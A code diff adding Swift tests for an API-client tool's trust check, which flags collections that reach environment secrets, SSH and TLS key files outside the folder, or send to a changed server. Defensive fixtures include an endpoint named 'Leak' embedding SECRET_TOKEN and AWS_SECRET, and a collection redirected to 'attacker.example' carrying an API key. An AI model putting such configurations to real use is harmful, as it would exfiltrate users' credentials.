@@ -115,6 +115,81 @@ import Testing
         #expect(refusal.contains("reads the file /etc/passwd") && refusal.contains("It sends to local http://127.0.0.1:1") && refusal.contains("explorer trust"))
     }
 
+    /// A function's arguments are read as expansion reads them: `env.X` as any argument is the
+    /// process environment, so `{{url_encode env.X}}` reaches `X` as `{{env.X}}` does.
+    @Test func everyArgumentOfEveryFunctionCountsForTheEnvironmentVariablesReached() throws {
+        let sandbox = try Sandbox("""
+            name: Arguments
+            environments: [{ name: local, base_url: "http://127.0.0.1:1", variables: { signed: "{{hmac_sha256 env.SIGNING_KEY body}}" } }]
+            endpoints:
+              - name: Leak
+                path: "/l/{{url_encode env.SECRET_TOKEN}}"
+                headers: { X-B: "{{ base64   env.AWS_SECRET }}", X-H: "{{sha256 \\"env.NOT_READ\\"}}" }
+            """)
+        let (collection, reach) = try CollectionLoader.loadReaching(from: sandbox.collectionFile)
+        #expect(Set(reach.references) == [
+            .environmentVariable("SECRET_TOKEN"), .environmentVariable("AWS_SECRET"), .environmentVariable("SIGNING_KEY"),
+        ], "a quoted argument is text, not a variable")
+        #expect(CollectionReach(collection, folder: sandbox.folder) == reach, "an import reports the same reach")
+        #expect(CollectionTrust(environment: sandbox.environment).refusal(for: collection, reaching: reach, at: sandbox.collectionFile) != nil)
+    }
+
+    /// Trust covers where the collection sends too: a pull that points a trusted collection's
+    /// `base_url` (or one endpoint) at another server asks again before its secrets go there.
+    @Test func trustAsksAgainWhenTheCollectionSendsElsewhere() throws {
+        let yaml = """
+            name: Bound
+            variables: { host: "127.0.0.1:1" }
+            environments: [{ name: local, base_url: "http://{{host}}" }]
+            endpoints:
+              - { name: Me, path: /me, headers: { X-Key: "{{env.API_KEY}}" } }
+            """
+        let sandbox = try Sandbox(yaml)
+        try sandbox.trust()
+        let trust = CollectionTrust(environment: sandbox.environment)
+        #expect(trust.isTrusted(sandbox.collectionFile, reach: try CollectionLoader.loadReaching(from: sandbox.collectionFile).reach))
+        for moved in [yaml.replacingOccurrences(of: "127.0.0.1:1", with: "attacker.example"),
+                      yaml + "\n  - { name: Other, path: \"https://attacker.example/x\" }"] {
+            try Data(moved.utf8).write(to: sandbox.collectionFile)
+            let reach = try CollectionLoader.loadReaching(from: sandbox.collectionFile).reach
+            #expect(!trust.isTrusted(sandbox.collectionFile, reach: reach))
+            #expect(reach.destinations.contains { $0.contains("attacker.example") })
+        }
+    }
+
+    /// A `.env` linked to a file outside the folder is that file; one that is the folder's own is not.
+    @Test func aDotEnvLinkedOutOfTheFolderIsAFileTheCollectionReaches() throws {
+        let yaml = """
+            name: DotEnv
+            environments: [{ name: local, base_url: "http://127.0.0.1:1" }]
+            endpoints: [{ name: Ping, path: /ping }]
+            """
+        let own = try Sandbox(yaml)
+        try Data("A=1\n".utf8).write(to: own.folder.appendingPathComponent(".env"))
+        #expect(try CollectionLoader.loadReaching(from: own.collectionFile).reach.isEmpty)
+
+        let linked = try Sandbox(yaml)
+        let outside = own.folder.appendingPathComponent(".env").resolvingSymlinksInPath().path
+        try FileManager.default.createSymbolicLink(atPath: linked.folder.appendingPathComponent(".env").path, withDestinationPath: outside)
+        #expect(try CollectionLoader.loadReaching(from: linked.collectionFile).reach.references == [.file(outside)])
+    }
+
+    /// `tls:` files outside the folder are reached: a client key signs in as its owner.
+    @Test func tlsCertificatesAndKeysOutsideTheFolderAreReached() throws {
+        let sandbox = try Sandbox("""
+            name: TLS
+            environments:
+              - name: prod
+                base_url: "https://127.0.0.1:1"
+                tls: { ca_cert: certs/ca.pem, client_cert: /etc/ssl/me.pem, client_key: ~/.ssh/me.key }
+            endpoints: [{ name: Ping, path: /ping }]
+            """)
+        let (collection, reach) = try CollectionLoader.loadReaching(from: sandbox.collectionFile)
+        let key = URL(fileURLWithPath: ("~/.ssh/me.key" as NSString).expandingTildeInPath).standardizedFileURL.resolvingSymlinksInPath().path
+        #expect(Set(reach.references) == [.file("/etc/ssl/me.pem"), .file(key)], "the CA in the folder is its own")
+        #expect(CollectionReach(collection, folder: sandbox.folder) == reach)
+    }
+
     /// An `openapi:` file outside the folder is a file it reads; a URL reads nothing of the
     /// machine, is fetched as a request is sent, and is named with where the collection sends.
     @Test func anOpenAPIDocumentOutsideTheFolderIsReachedAndOneNamedByURLIsNamedAsFetched() throws {
